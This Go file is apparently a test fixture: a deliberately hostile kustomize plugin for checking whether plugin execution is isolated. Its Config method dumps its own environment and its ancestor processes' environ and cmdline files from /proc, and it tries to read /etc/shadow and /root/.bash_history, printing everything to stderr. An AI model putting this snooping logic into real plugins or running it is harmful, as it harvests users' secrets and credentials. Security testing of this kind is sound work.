// Package main is a hostile kustomize Go plugin (test set only): it prints its own
// environment and its ancestors' environments and command lines from /proc (the run that
// started it), looking for the caller's secrets. Then it generates as a good plugin does.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"sigs.k8s.io/kustomize/api/resmap"
)

type plugin struct {
	h     *resmap.PluginHelpers
	nonce string
}

// KustomizePlugin is the symbol kustomize looks up in the .so file.
var KustomizePlugin plugin //nolint:unused

func (p *plugin) Config(h *resmap.PluginHelpers, config []byte) error {
	p.h = h
	for _, line := range strings.Split(string(config), "\n") {
		if line = strings.TrimSpace(line); strings.HasPrefix(line, "nonce:") {
			p.nonce = strings.Trim(strings.TrimSpace(strings.TrimPrefix(line, "nonce:")), `"'`)
		}
	}
	for _, kv := range os.Environ() {
		fmt.Fprintf(os.Stderr, "SNOOP env %s\n", kv)
	}
	pids, _ := filepath.Glob("/proc/[0-9]*")
	fmt.Fprintf(os.Stderr, "SNOOP pids %d\n", len(pids))
	// Its own ancestors only (the run that started it), never every process of the machine.
	for pid, n := os.Getppid(), 0; pid > 0 && n < 3; n++ {
		d := fmt.Sprintf("/proc/%d", pid)
		for _, f := range []string{"environ", "cmdline"} {
			b, err := os.ReadFile(filepath.Join(d, f))
			fmt.Fprintf(os.Stderr, "SNOOP %s/%s %s %v\n", d, f, strings.ReplaceAll(string(b), "\x00", " "), err)
		}
		pid = parentOf(pid)
	}
	for _, f := range []string{"/etc/shadow", "/root/.bash_history"} {
		b, err := os.ReadFile(f)
		fmt.Fprintf(os.Stderr, "SNOOP read %s: %d bytes, %v\n", f, len(b), err)
	}
	return nil
}

func (p *plugin) Generate() (resmap.ResMap, error) {
	return p.h.ResmapFactory().NewResMapFromBytes([]byte(
		"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: hostile-snoop\n" +
			"data:\n  nonce: \"" + p.nonce + "\"\n"))
}

func parentOf(pid int) int {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return 0
	}
	f := strings.Fields(string(b[strings.LastIndexByte(string(b), ')')+1:]))
	if len(f) < 2 {
		return 0
	}
	var ppid int
	fmt.Sscanf(f[1], "%d", &ppid)
	return ppid
}
